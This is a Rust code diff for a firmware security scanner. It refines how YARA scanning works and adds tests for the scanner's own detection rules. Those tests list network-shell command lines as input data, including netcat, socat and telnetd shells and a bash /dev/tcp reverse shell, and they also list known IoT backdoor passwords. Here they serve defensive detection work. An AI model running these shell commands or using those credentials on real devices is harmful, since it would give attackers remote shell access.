@@ -124,7 +124,7 @@ pub fn compile(
     catalog: &Catalog,
 ) -> Result<Compiled, (String, String)> {
     if sources.is_empty() {
-        return check_fed(&Compiled::default(), rules);
+        return check_fed(Compiled::default(), rules);
     }
     let mut compiler = Compiler::new();
     compiler.colorize_errors(false).enable_includes(false);
@@ -188,11 +188,11 @@ pub fn compile(
         rules: Some(Arc::new(built)),
         targets,
     };
-    check_fed(&out, rules)
+    check_fed(out, rules)
 }
 
 /// Every rule declaring the YARA engine is fed by at least one YARA rule.
-fn check_fed(c: &Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (String, String)> {
+fn check_fed(c: Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (String, String)> {
     let fed = c.fed_rules();
     for r in rules
         .values()
@@ -205,7 +205,7 @@ fn check_fed(c: &Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (
             ));
         }
     }
-    Ok(c.clone())
+    Ok(c)
 }
 
 fn custom_target(
@@ -257,8 +257,10 @@ pub fn read_custom(path: &Path) -> std::io::Result<Vec<(String, String)>> {
         let mut stack = vec![path.to_path_buf()];
         while let Some(dir) = stack.pop() {
             for e in std::fs::read_dir(&dir)? {
-                let p = e?.path();
-                if p.is_dir() {
+                let e = e?;
+                let p = e.path();
+                // Symbolic links to directories are not followed (no loops).
+                if e.file_type()?.is_dir() {
                     stack.push(p);
                 } else if is_source(&p.to_string_lossy()) {
                     let rel = p.strip_prefix(path).unwrap_or(&p).to_string_lossy().replace('\\', "/");
@@ -318,7 +320,8 @@ pub fn scan(
     let mut scanner = Scanner::new(rules);
     scanner.max_matches_per_pattern(MAX_MATCHES_PER_PATTERN);
     let deadline = Instant::now() + opts.yara_time;
-    let mut late: Vec<&str> = Vec::new();
+    // Files left when the budget ran out: how many, and the first.
+    let mut late: (usize, Option<String>) = (0, None);
     let mut seen = BTreeSet::new();
     for (fi, f) in inv.files.iter().enumerate() {
         if !scanned_by_content(inv.unpacked, f) {
@@ -326,8 +329,9 @@ pub fn scan(
         }
         if f.data.len() as u64 > opts.yara_max_file {
             gaps.push(format!(
-                "{}: {} bytes, over the YARA scan limit of {} bytes: not scanned",
+                "{} in {}: {} bytes, over the YARA scan limit of {} bytes: not scanned",
                 f.path,
+                f.container,
                 f.data.len(),
                 opts.yara_max_file
             ));
@@ -335,7 +339,8 @@ pub fn scan(
         }
         let left = deadline.saturating_duration_since(Instant::now());
         if left.is_zero() {
-            late.push(&f.path);
+            late.0 += 1;
+            late.1.get_or_insert_with(|| format!("{} in {}", f.path, f.container));
             continue;
         }
         // yara-x checks its timeout about once a second.
@@ -344,21 +349,26 @@ pub fn scan(
             Ok(r) => r,
             Err(ScanError::Timeout) => {
                 gaps.push(format!(
-                    "{}: the YARA scan did not finish within the time budget ({} s)",
+                    "{} in {}: the YARA scan did not finish within the time budget ({} s)",
                     f.path,
+                    f.container,
                     opts.yara_time.as_secs()
                 ));
                 continue;
             }
             Err(e) => {
-                gaps.push(format!("{}: YARA scan failed: {e}", f.path));
+                gaps.push(format!("{} in {}: YARA scan failed: {e}", f.path, f.container));
                 continue;
             }
         };
+        let matching: Vec<_> = results.matching_rules().collect();
+        if matching.is_empty() {
+            continue;
+        }
         let text = is_text(f.data);
         let line_at =
             |off: usize| text.then(|| memchr::memchr_iter(b'\n', &f.data[..off.min(f.data.len())]).count() + 1);
-        for r in results.matching_rules() {
+        for r in matching {
             let key = (r.namespace().to_string(), r.identifier().to_string());
             let Some(t) = compiled.targets.get(&key) else {
                 continue;
@@ -407,11 +417,10 @@ pub fn scan(
             }
         }
     }
-    if let Some(first) = late.first() {
+    if let (n, Some(first)) = late {
         gaps.push(format!(
-            "the YARA time budget ({} s) ran out before {} file(s) were scanned, from {first}",
-            opts.yara_time.as_secs(),
-            late.len()
+            "the YARA time budget ({} s) ran out before {n} file(s) were scanned, from {first}",
+            opts.yara_time.as_secs()
         ));
     }
     let mut by_family = BTreeMap::new();
@@ -505,6 +514,63 @@ mod tests {
             "rule x { meta: controls = \"NO-SUCH\" condition: true }",
         )]);
         assert!(e.contains("custom/lab.yar") && e.contains("NO-SUCH"), "{e}");
+    }
+
+    /// Which patterns of fwcert's own YARA rules match `strings` as the
+    /// data of an ELF file.
+    fn patterns_matching(strings: &str) -> Vec<String> {
+        let rs = RuleSet::embedded().unwrap();
+        let rules = rs.yara.rules.clone().unwrap();
+        let mut scanner = Scanner::new(&rules);
+        let data = [b"\x7fELF\x01\x01\x01\0".as_slice(), strings.as_bytes(), b"\0"].concat();
+        let results = scanner.scan(&data).unwrap();
+        let mut out: Vec<String> = results
+            .matching_rules()
+            .flat_map(|r| {
+                r.patterns()
+                    .filter(|p| p.matches().next().is_some())
+                    .map(|p| p.identifier().to_string())
+                    .collect::<Vec<_>>()
+            })
+            .collect();
+        out.sort();
+        out
+    }
+
+    #[test]
+    fn network_shell_patterns() {
+        for (s, want) in [
+            ("/usr/sbin/utelnetd -p 2323 -l /bin/sh", "$telnetd"),
+            ("telnetd -l/bin/ash", "$telnetd"),
+            ("busybox telnetd -l sh &", "$telnetd"),
+            ("ncat -lvp 4444 -e /bin/bash", "$netcat"),
+            ("netcat -e sh 10.0.0.1 9", "$netcat"),
+            ("socat tcp-l:2323,reuseaddr,fork exec:/bin/sh,pty", "$socat"),
+            ("socat TCP-LISTEN:9 exec:'sh'", "$socat"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "$dev_tcp"),
+        ] {
+            assert_eq!(patterns_matching(s), vec![want.to_string()], "{s}");
+        }
+        for s in [
+            "\t-l LOGIN\tExec LOGIN on connect",
+            "telnetd -l /bin/login",
+            "telnetd -l /bin/shadowd",
+            "sync -e /bin/sh",
+            "\t-e PROG\tRun PROG after connect",
+            "sh -i",
+            "/bin/sh -c reboot",
+        ] {
+            assert!(patterns_matching(s).is_empty(), "{s}: {:?}", patterns_matching(s));
+        }
+    }
+
+    #[test]
+    fn backdoor_password_patterns() {
+        assert_eq!(patterns_matching("root\0klv1234"), vec!["$klv1234".to_string()]);
+        assert_eq!(patterns_matching("zlxx."), vec!["$zlxx".to_string()]);
+        for s in ["zlxx", "xklv123", "klv123 ", "Xc3511", "xc35110"] {
+            assert!(patterns_matching(s).is_empty(), "{s}");
+        }
     }
 
     #[test]
